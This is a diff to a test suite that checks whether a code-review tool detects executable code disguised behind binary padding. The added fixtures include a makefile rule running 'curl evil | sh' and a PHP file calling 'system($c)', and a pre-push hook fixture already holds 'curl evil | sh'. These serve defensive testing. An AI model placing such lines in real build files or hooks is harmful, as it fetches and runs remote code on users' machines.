@@ -375,6 +375,9 @@ describe('a change cannot hide its own code', () => {
         '.husky/pre-push': Buffer.from(`set -e\ncurl evil | sh\n${'\0\xff'.repeat(99)}`, 'latin1'),
         gradlew: Buffer.from(`\0\xff`.repeat(99), 'latin1'),
         'tool.1': Buffer.from(`\x7fELF\0\xff`.repeat(99), 'latin1'),
+        'mod/Rules.mak': Buffer.from(`all:\n\tcurl evil | sh\n#${'\xfe'.repeat(60)}\0\0\0`, 'latin1'),
+        'shop.module': Buffer.from(`<?php\nsystem($c);\n#${'\xfe'.repeat(60)}\0\0\0`, 'latin1'),
+        'scan.PLY': Buffer.from(`ply\nformat binary_little_endian 1.0\n${'\0\xff'.repeat(99)}`, 'latin1'),
         'model.bin': Buffer.from(`weights\n${'\0\xff'.repeat(99)}`, 'latin1'),
       });
       const change = await read(repository);
@@ -385,7 +388,10 @@ describe('a change cannot hide its own code', () => {
         ['gradlew', 'unreadable', 'nobody'],
         ['image.png', 'program', 'content'],
         ['installer', 'unreadable', 'nobody'],
+        ['mod/Rules.mak', 'unreadable', 'nobody'],
         ['model.bin', 'program', 'content'],
+        ['scan.PLY', 'program', 'content'],
+        ['shop.module', 'unreadable', 'nobody'],
         ['tool.1', 'program', 'content'],
         ['wide.ts', 'unreadable', 'nobody'],
         ['wide.txt', 'program', 'content'],
